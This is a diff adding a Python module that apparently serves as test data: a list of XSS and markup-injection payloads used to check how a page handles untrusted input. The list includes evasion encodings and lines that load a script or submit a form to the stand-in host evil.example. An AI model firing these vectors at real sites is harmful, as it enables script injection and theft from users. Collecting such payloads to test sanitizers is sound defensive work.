@@ -1,0 +1,92 @@
+"""Texts that try to become markup or script, wherever a page may put them."""
+
+from __future__ import annotations
+
+from itertools import product
+from typing import Final
+
+CALL: Final = "pwned()"
+_HOST: Final = "//evil.example"
+
+_TAGS: Final = (
+    f"<script>{CALL}</script>",
+    f"<script src={_HOST}/x.js></script>",
+    f"<ScRiPt/x>{CALL}</sCrIpT>",
+    f"<script/>{CALL}</script/x>",
+    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
+    f"<img src=x onerror={CALL}>",
+    f"<img src={_HOST}/x>",
+    f"<img/src=x/onerror={CALL}>",
+    f'<img src="x` `<script>{CALL}</script>"` `>',
+    f"<svg onload={CALL}>",
+    f"<svg><script>{CALL}</script></svg>",
+    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
+    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
+    f"<svg><image href={_HOST}/x /></svg>",
+    f"<math><mtext><script>{CALL}</script></mtext></math>",
+    f"<math href=javascript:{CALL}>x</math>",
+    f"<iframe src=javascript:{CALL}>",
+    f"<iframe src={_HOST}>",
+    f'<iframe srcdoc="<script>{CALL}</script>">',
+    f"<object data=javascript:{CALL}>",
+    f"<embed src={_HOST}/x.swf>",
+    f"<video><source onerror={CALL}></video>",
+    f"<video poster={_HOST}/x>",
+    f"<audio src=x onerror={CALL}>",
+    f"<body onload={CALL}>",
+    f"<details open ontoggle={CALL}>",
+    f"<input autofocus onfocus={CALL}>",
+    f"<select autofocus onfocus={CALL}>",
+    f"<textarea autofocus onfocus={CALL}>",
+    f"<marquee onstart={CALL}>",
+    f"<a href=javascript:{CALL}>x</a>",
+    f"<a href=java&#10;script:{CALL}>x</a>",
+    f"<form action={_HOST}><button>x",
+    f"<button formaction={_HOST}>x",
+    f"<link rel=stylesheet href={_HOST}/x.css>",
+    f"<link rel=prefetch href={_HOST}/x>",
+    f"<style>@import'{_HOST}/x.css'</style>",
+    f"<style>*{{background:url({_HOST}/x)}}</style>",
+    f"<meta http-equiv=refresh content=0;url={_HOST}>",
+    f"<base href={_HOST}/>",
+    f"<template><script>{CALL}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
+    f"<xss style=animation-name:x onanimationstart={CALL}>",
+    f"<div style=background:url({_HOST}/x)>x</div>",
+    f"<!--><script>{CALL}</script>-->",
+    f"<![CDATA[<script>{CALL}</script>]]>",
+    f"<?xml version=1.0?><script>{CALL}</script>",
+    f"<isindex action=javascript:{CALL} type=image>",
+)
+_ENDS: Final = ("", '">', "'>", "</title>", "--></p>", '" x="')
+_OTHERS: Final = (
+    f'" onmouseover="{CALL}',
+    f"' onfocus='{CALL}' autofocus='",
+    f'" autofocus onfocus="{CALL}" x="',
+    f"javascript:{CALL}",
+    f"JaVaScRiPt:{CALL}",
+    f"data:text/html,<script>{CALL}</script>",
+    f"&lt;script&gt;{CALL}&lt;/script&gt;",
+    f"&#60;script&#62;{CALL}&#60;/script&#62;",
+    f"%3Cscript%3E{CALL}%3C/script%3E",
+    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
+    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
+    f"＜script＞{CALL}＜/script＞",
+    f"{{{{ {CALL} }}}}",
+    f"{{% load x %}}{CALL}",
+    f"${{{CALL}}}",
+    f"`-{CALL}-`",
+    f"';{CALL};//",
+    f'";{CALL};//',
+    f"\\';{CALL};//",
+    f"*/{CALL}/*",
+    f"]]>{CALL}",
+    f"x:expression({CALL})",
+    f"url({_HOST}/x)",
+    f"{_HOST}/x",
+    f"<b>{CALL}</b>",
+)
+PAYLOADS: Final = [
+    *(end + tag for end, tag in product(_ENDS, _TAGS) if len(end + tag) <= 120),
+    *_OTHERS,
+]
